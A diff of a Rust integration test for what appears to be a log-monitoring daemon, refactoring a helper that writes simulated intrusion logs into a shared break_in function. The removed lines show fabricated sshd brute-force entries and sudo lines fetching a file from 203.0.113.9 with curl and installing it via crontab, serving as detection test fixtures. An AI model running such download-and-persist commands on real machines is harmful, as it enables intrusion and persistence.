@@ -1,33 +1,19 @@
 //! What is silenced is stored and marked, and nobody is told of it: in the running daemon, over kills, a lost hot store and in a replay.
 
 use std::collections::BTreeSet;
-use std::io::Write;
 
 use serde_json::Value;
 
+use crate::break_in::break_in;
 use crate::harness::{Daemon, Site, dsmild, wait_for};
 use crate::notify_server::Webhook;
 
 const INPUT: &str = "[[intake.file]]\npath = \"{dir}/in.log\"\n";
 
-/// Somebody guesses a password of a machine, gets in, and stays; it begins at this minute.
+/// Begins at this minute; each time another one, for an alarm about the same that grows is not said again.
 fn attack(site: &Site, host: &str, minute: u64) {
-    let mut file = std::fs::File::options().append(true).create(true).open(site.path("in.log")).unwrap();
-    let mut second = minute * 60;
-    let mut line = |text: &str| {
-        second += 1;
-        writeln!(file, "2026-11-20T10:{:02}:{:02}+00:00 {host} {text}", second / 60, second % 60).unwrap();
-    };
-    // Each time another one: an alarm about the same that grows is not said again.
     let (user, from) = (format!("user{minute}-of-{host}"), format!("203.0.113.{}", minute + 1));
-    for _ in 0..25 {
-        line(&format!("sshd[7]: Failed password for {user} from {from} port 4242 ssh2"));
-    }
-    line(&format!("sshd[7]: Accepted password for {user} from {from} port 4242 ssh2"));
-    line(&format!(
-        "sudo:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/curl -o /tmp/x http://203.0.113.9/x"
-    ));
-    line(&format!("sudo:   {user} : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/crontab /tmp/x"));
+    break_in(site, host, (&user, &from), (minute * 60, ""), &[]);
 }
 
 fn settle(daemon: &Daemon, site: &Site) {
